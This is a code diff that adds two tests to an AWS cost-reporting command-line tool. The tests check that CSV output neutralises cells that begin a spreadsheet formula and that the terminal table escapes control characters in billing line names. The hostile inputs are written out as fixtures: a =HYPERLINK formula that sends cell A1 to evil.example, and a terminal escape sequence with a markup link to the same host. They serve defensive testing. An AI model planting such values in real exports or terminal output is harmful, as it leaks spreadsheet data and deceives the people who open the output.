@@ -195,3 +195,28 @@ def test_unknown_environment(aws, cli, config_dir, reports_env):
     result = cli("report", "costs", "staging", "--config-dir", config_dir)
     assert result.exit_code == 1 and "no such environment file" in result.stderr
     assert "production" in result.stderr
+
+
+def test_csv_cells_cannot_start_a_spreadsheet_formula(aws, cli, config_dir, reports_env, deployed):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    bill = {month: {**amounts, (formula, "USE1-Requests"): 1.0} for month, amounts in BILL.items()}
+    seed(aws, bill)
+    result = run_costs(cli, config_dir, "--output", "csv")
+    assert result.exit_code == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert "'" + formula in [row["line"] for row in rows]
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
+    cloudfront = next(row for row in rows if row["line"] == "Amazon CloudFront")
+    assert cloudfront["change"] == "-10.00"  # a plain negative number stays a number
+
+
+
+def test_the_table_shows_control_characters_in_line_names_as_escapes(aws, cli, config_dir, reports_env, deployed,
+                                                                     monkeypatch):
+    monkeypatch.setenv("COLUMNS", "300")
+    hostile = "\x1b]0;owned\x07[link=http://evil.example]Svc[/link]"
+    seed(aws, {month: {**amounts, (hostile, "USE1-Requests"): 1.0} for month, amounts in BILL.items()})
+    result = run_costs(cli, config_dir)
+    assert result.exit_code == 0, result.stderr
+    assert "\x1b" not in result.stdout
+    assert "\\x1b]0;owned\\x07[link=http://evil.example]Svc[/link]" in result.stdout
